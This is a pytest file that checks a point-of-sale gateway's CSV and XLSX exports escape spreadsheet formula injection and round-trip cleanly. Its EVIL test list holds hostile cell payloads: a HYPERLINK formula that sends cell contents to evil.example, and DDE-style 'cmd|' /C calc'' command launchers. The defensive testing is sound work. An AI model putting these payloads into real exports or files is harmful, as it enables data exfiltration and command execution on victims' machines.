"""Attack class: spreadsheet formulas smuggled into exports (issue 13 item 7).

An item named `=HYPERLINK(...)` (a cashier's catalog.upsert, a supplier's CSV) must reach
the back office's spreadsheet as text: CSV cells get the OWASP prefix, XLSX cells are string
cells. Every export site goes through gatewayd/exports.py, and a test keeps it that way.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gatewayd import exports, reports
from gatewayd.sales.catalog import Catalog, export_csv, import_csv
from gatewayd.store.db import Store

ROOT = Path(__file__).resolve().parents[2]
EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NAMES = [name for name in EVIL if not name[0].isspace()]  # the import strips blanks


@pytest.mark.parametrize("text", EVIL)
def test_a_formula_cell_is_prefixed_and_unprefixed(text):
    assert exports.csv_cell(text) == "'" + text
    assert exports.unescape_csv_cell(exports.csv_cell(text)) == text


@pytest.mark.parametrize("number", ["-12.50", "+3", "-5%", "1,234.50", "-0.35"])
def test_a_plain_number_stays_a_number(number):
    assert exports.csv_cell(number) == number


def test_catalog_csv_export_escapes_and_round_trips(tmp_path):
    store = Store(tmp_path / "g.db")
    source = tmp_path / "in.csv"
    with open(source, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)  # the supplier's file, as written by anything
        w.writerow(["sku", "name", "price", "category"])
        for n, name in enumerate(NAMES):
            w.writerow([f"90{n}", name, "1.00", "=1+1"])
    try:
        import_csv(store, source)
        names = {it.sku: it.name for it in Catalog(store).iter_items()}
        assert sorted(names.values()) == sorted(NAMES)
        out = tmp_path / "out.csv"
        export_csv(store, out)
        with open(out, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if exports.is_formula_like(c)], cells
        assert {row[1] for row in rows[1:]} == {"'" + name for name in NAMES}
        assert {row[7] for row in rows[1:]} == {"'=1+1"}  # the category too
        again = Store(tmp_path / "again.db")
        try:
            import_csv(again, out)  # the prefix comes off on the way back in
            assert {it.sku: it.name for it in Catalog(again).iter_items()} == names
        finally:
            again.close()
    finally:
        store.close()


def evil_table() -> reports.Table:
    return reports.Table(
        "sales", "Sales by item", [("sku", "sku", "text"), ("name", "name", "text"),
                                   ("amount", "amount", "money")],
        rows=[{"sku": str(n), "name": name, "amount": -150} for n, name in enumerate(EVIL)],
        totals={"amount": -150 * len(EVIL)}, day_from="2026-05-01", day_to="2026-05-01",
        tz="Asia/Shanghai",
    )


def test_report_csv_escapes_formulas_and_keeps_negative_amounts(tmp_path):
    reports.export_csv(evil_table(), tmp_path / "r.csv")
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[1] for r in rows[1:1 + len(EVIL)]] == ["'" + name for name in EVIL]
    assert {r[2] for r in rows[1:1 + len(EVIL)]} == {"-1.50"}


def test_report_xlsx_has_no_formula_cells(tmp_path):
    reports.export_xlsx(evil_table(), tmp_path / "r.xlsx")
    ws = load_workbook(tmp_path / "r.xlsx").active
    kinds = {cell.data_type for row in ws.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds
    names = [row[1] for row in ws.iter_rows(min_row=3, max_row=2 + len(EVIL), values_only=True)]
    assert names == [n.replace("\r", "\n") for n in EVIL]  # the text, as a string cell (XML
    # stores a lone CR as LF)


def test_every_export_site_uses_the_helper():
    writers = []
    for path in [*ROOT.glob("gatewayd/**/*.py"), *ROOT.glob("clients/**/*.py")]:
        if path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.writer\(|csv\.DictWriter\(|\bws\.append\(", text):
            writers.append(str(path.relative_to(ROOT)))
    assert writers == [], f"write CSV/XLSX through gatewayd/exports.py: {writers}"
